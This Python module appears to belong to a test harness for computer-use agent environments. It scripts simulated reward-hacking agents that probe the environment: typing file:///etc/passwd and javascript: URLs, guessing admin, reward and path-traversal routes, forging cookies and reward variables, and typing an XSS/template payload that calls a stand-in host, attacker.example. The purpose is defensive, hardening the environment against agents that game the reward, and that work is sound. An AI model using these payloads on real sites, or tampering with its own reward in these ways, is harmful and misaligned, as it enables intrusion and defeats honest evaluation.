"""Attackers: agents that go for the reward instead of the task.

Each attack begins on a fresh episode and does its worst through the action space; some also run scripts in
the page, as if they had found a hole that lets them. Afterwards the episode is ended, which must not be a
success, and what the attack left behind is looked at: a foreign address on the screen, a script that ran out
of a text field, a state that changed without a form.
"""

from __future__ import annotations

import itertools
import json
from collections.abc import Callable, Iterator, Mapping, Sequence
from urllib.parse import urlsplit

from ..actions import Action
from ..env import ComputerEnv
from ..geometry import Box
from .attempt import Attempt
from .desktop_attackers import DESKTOP_ATTACKS

CANARY = "attacker.example"
"""Host that an injected script calls, so that it is known to have run. Requests to it are refused."""

_ADDRESSES = (
    "file:///etc/passwd",
    "chrome://version",
    "view-source:{home}",
    "data:text/html,<h1>mine</h1>",
    "javascript:fetch('https://" + CANARY + "/address')",
    "devtools://devtools/bundled/inspector.html",
    "http://127.0.0.1:9222/json",
)
_SHORTCUTS = (
    ("F12",), ("Control", "Shift", "i"), ("Control", "Shift", "j"), ("Control", "Shift", "c"),
    ("Control", "u"), ("Control", "o"), ("Control", "s"), ("Control", "p"), ("Control", "t"),
    ("Control", "n"), ("Control", "Shift", "n"), ("Control", "h"), ("Control", "j"), ("Alt", "d"),
    ("Alt", "F4"), ("Control", "Shift", "Delete"), ("F1",), ("F11",), ("Shift", "Escape"),
)  # fmt: skip
_GUESSES = (
    "/admin", "/admin/", "/admin/solve", "/state", "/debug", "/reward", "/reward?value=1", "/solve", "/done",
    "/success", "/api", "/api/state", "/api/reward", "/__state", "/__reward", "/_state", "/config", "/.env",
    "/.git/config", "/database", "/db.sqlite", "/snapshot", "/reset", "/seed", "/oracle", "/task", "/judge",
    "/console", "/../../etc/passwd", "/static/../../../../etc/passwd", "/%2e%2e/%2e%2e/etc/passwd",
)  # fmt: skip
_PAYLOAD = (
    "\"'><img src=x onerror=\"fetch('https://{canary}/{mark}')\">"
    "<script>fetch('https://{canary}/{mark}')</script>{{{{7*191}}}}"
)
_MAX_PAGES = 12
_FIELDS = """() => [...document.querySelectorAll("input, textarea, [contenteditable]")]
  .filter((field) => !field.type || /^(text|search|email|tel|url|password|number|textarea)$/.test(field.type))
  .filter((field) => field.checkVisibility() && !field.disabled && !field.readOnly)
  .map((field) => {
    field.scrollIntoView({block: "center", behavior: "instant"});
    const box = field.getBoundingClientRect();
    const form = field.closest("form");
    return [(form ? form.getAttribute("action") : "") + " " + (field.name || field.id), box.x, box.y,
            box.width, box.height];
  })"""
_SCROLL_TO = """(name) => {
  for (const field of document.querySelectorAll("input, textarea, [contenteditable]")) {
    const form = field.closest("form");
    if ((form ? form.getAttribute("action") : "") + " " + (field.name || field.id) !== name) continue;
    field.scrollIntoView({block: "center", behavior: "instant"});
    const box = field.getBoundingClientRect();
    return [box.x, box.y, box.width, box.height];
  }
  return null;
}"""
_LINKS = """() => [...document.querySelectorAll("a[href]")].map((link) => link.href)"""
_ROUTES = """() => [...new Set([location.pathname,
  ...[...document.querySelectorAll("form[action]")].map((form) => form.getAttribute("action")),
  ...[...document.querySelectorAll("a[href]")].map((link) => link.getAttribute("href"))])]
  .filter((route) => route.startsWith("/")).slice(0, 15)"""
_POST = """(() => {{
  const form = document.createElement("form");
  form.method = "post"; form.action = {route};
  form.innerHTML = "<input name=id value=1><input name=quantity value=1>";
  document.body.append(form); form.submit();
}})()"""


def addresses(attempt: Attempt) -> None:
    """Type addresses where an address bar would be, and send the page to them."""
    home = attempt.env.task.start_url
    for address in _ADDRESSES:
        address = address.format(home=home) if "{home}" in address else address
        typed = (Action("type", text=address), Action("key", keys=("Enter",)))
        if not all(attempt.act(action) for action in (Action("key", keys=("Control", "l")), *typed)):
            return
        if address.startswith("javascript:"):
            # From a script it would run, as the script itself does.
            continue
        opened = (f"location.href = {json.dumps(address)}", f"window.open({json.dumps(address)})")
        if not all(attempt.run(script) for script in opened):
            return


def shortcuts(attempt: Attempt) -> None:
    """Press what opens tools, sources, files and windows in a browser with a surface."""
    for keys in _SHORTCUTS:
        if not attempt.act(Action("key", keys=keys)):
            return


def guesses(attempt: Attempt) -> None:
    """Ask for addresses that a careless world would have: administration, state, rewards."""
    before = attempt.state
    for path in _GUESSES:
        seen = attempt.answered()
        if not attempt.run(f"location.href = {json.dumps(path)}"):
            return
        # What is asked for after the page itself is its styles and pictures, which a page of errors has, too.
        asked = attempt.env.computer.requests[seen:]
        status = next((request.status for request in asked if not 300 <= request.status < 400), None)
        if status is not None and status < 300:
            attempt.findings.append(f"GET {path} was answered with status {status}")
    if attempt.state.changes_since(before):
        attempt.findings.append("guessed addresses changed the state")


def methods(attempt: Attempt) -> None:
    """Send requests of every method to the world's own routes, outside of any form."""
    before = attempt.state
    routes = attempt.ask(_ROUTES) or []
    for method, route in itertools.product(("PUT", "DELETE", "PATCH"), routes):
        attempt.env.computer.run_script(
            f"fetch({json.dumps(route)}, {{method: '{method}'}}).catch(() => {{}})"
        )
    if not attempt.act(Action("noop")):
        return
    changes = attempt.state.changes_since(before)
    if changes:
        attempt.findings.append(f"a method that no form has changed the state: {changes[0]}")
    # What a form may send changes what the form may change; it must not amount to the task.
    for route in routes:
        if not attempt.run(_POST.format(route=json.dumps(route))):
            return


def storage(attempt: Attempt) -> None:
    """Edit what the browser keeps: cookies, storage, and the page's own variables and form fields."""
    attempt.run(
        """document.cookie = "admin=1; path=/"; document.cookie = "success=1; path=/";
        try { localStorage.success = sessionStorage.success = "1"; } catch (error) {}
        for (const name of ["success", "reward", "done", "WOB_REWARD_GLOBAL", "WOB_DONE_GLOBAL"])
          window[name] = 1;
        for (const field of document.querySelectorAll("input[type=hidden]")) field.value = "1";"""
    )
    attempt.run("location.reload()")


def texts(attempt: Attempt) -> None:
    """Type a script into every text field within reach, submit it, and see whether it ever runs."""
    first = str(attempt.ask("() => location.href"))
    home = urlsplit(first)
    queue, seen, tried = [first], {home.path}, set[str]()
    visited: list[str] = []
    while queue and len(visited) < _MAX_PAGES:
        page = queue.pop(0)
        if not attempt.run(f"location.href = {json.dumps(page)}"):
            return
        visited.append(page)
        for link in attempt.ask(_LINKS) or []:
            parts = urlsplit(link)
            if parts.netloc == home.netloc and parts.path not in seen:
                seen.add(parts.path)
                # Pages with few siblings come first: forms live there, products do not.
                queue.append(link)
        queue.sort(key=lambda link: urlsplit(link).path.count("/"))
        for name, *_ in attempt.ask(_FIELDS) or []:
            if name not in tried:
                tried.add(name)
                if not _fill(attempt, name, _PAYLOAD.format(canary=CANARY, mark=f"field{len(tried)}")):
                    return
                if not attempt.run(f"location.href = {json.dumps(page)}"):
                    return
    for page in visited:
        if not attempt.run(f"location.href = {json.dumps(page)}"):
            return


def _fill(attempt: Attempt, name: str, text: str) -> bool:
    """Type a text into a field and press Enter; tell whether the episode goes on."""
    found = attempt.ask(_SCROLL_TO, name)
    if found is None:
        return True
    view = attempt.env.computer.look.view
    x, y = Box(found[0] + view.x, found[1] + view.y, found[2], found[3]).center
    if not (view.x <= x < view.x + view.width and view.y <= y < view.y + view.height):
        return True
    steps = (
        Action("click", x=x, y=y), Action("key", keys=("Control", "a")), Action("type", text=text),
        Action("key", keys=("Enter",)),
    )  # fmt: skip
    return all(attempt.act(step) for step in steps)


def flood(attempt: Attempt) -> None:
    """Click and type fast and much, and send what is far too long."""
    width, height = attempt.env.size
    for number in range(12):
        if not attempt.act(Action("triple_click", x=(number * 97) % width, y=(number * 61) % height)):
            return
    fields = attempt.ask(_FIELDS) or []
    for text in ("A" * 8_000, "𝔘" * 2_000, "\u202e\u0000\ud7ff" * 50, "9" * 400):
        if not all(_fill(attempt, name, text) for name, *_ in fields[:2]):
            return
    attempt.run("for (let i = 0; i < 200; i++) fetch('/?flood=' + i)")
    attempt.run("fetch('/', {method: 'POST', body: 'A'.repeat(9 << 20)}).catch(() => {})")


_BROWSER: Mapping[str, Callable[[Attempt], None]] = {
    "addresses": addresses,
    "shortcuts": shortcuts,
    "guesses": guesses,
    "methods": methods,
    "storage": storage,
    "texts": texts,
    "flood": flood,
}
ATTACKS: Mapping[str, Callable[[Attempt], None]] = {**_BROWSER, **DESKTOP_ATTACKS}
"""Every attack by name."""
_BY_COMPUTER: Mapping[str, Sequence[str]] = {
    "browser": tuple(_BROWSER),
    "desktop": tuple(DESKTOP_ATTACKS),
    # Addresses of every kind and tools for developers belong to a whole browser, and it is the agent's own.
    "browser_on_desktop": ("guesses", "methods", "storage", "texts", "flood", *DESKTOP_ATTACKS),
}
TASK_ATTACKS = ("methods", "storage", "keys")
"""Those that may succeed on one task of a world and not on another."""


def attacks_on(computer: str) -> tuple[str, ...]:
    """Return the names of the attacks on worlds of a kind of computer (``WorldSpec.computer``)."""
    return tuple(_BY_COMPUTER[computer])


def attack(env: ComputerEnv, name: str, seed: int) -> Iterator[str]:
    """Attack a fresh episode and yield, in words, everything that must not be.

    Args:
        env: The environment; it is reset.
        name: A key of ``ATTACKS``.
        seed: Seed of the reset.
    """
    env.reset(seed=seed)
    attempt = Attempt(env)
    ATTACKS[name](attempt)
    yield from attempt.findings
    for request in getattr(env.computer, "refused", ()):
        if (urlsplit(request.url).hostname or "") == CANARY and name in ("texts", "addresses"):
            yield f"a typed script ran and called {request.url[:80]}"
            break
    if env.running and env.step(Action("done"))[-1]["success"]:
        yield "the episode ended with success"
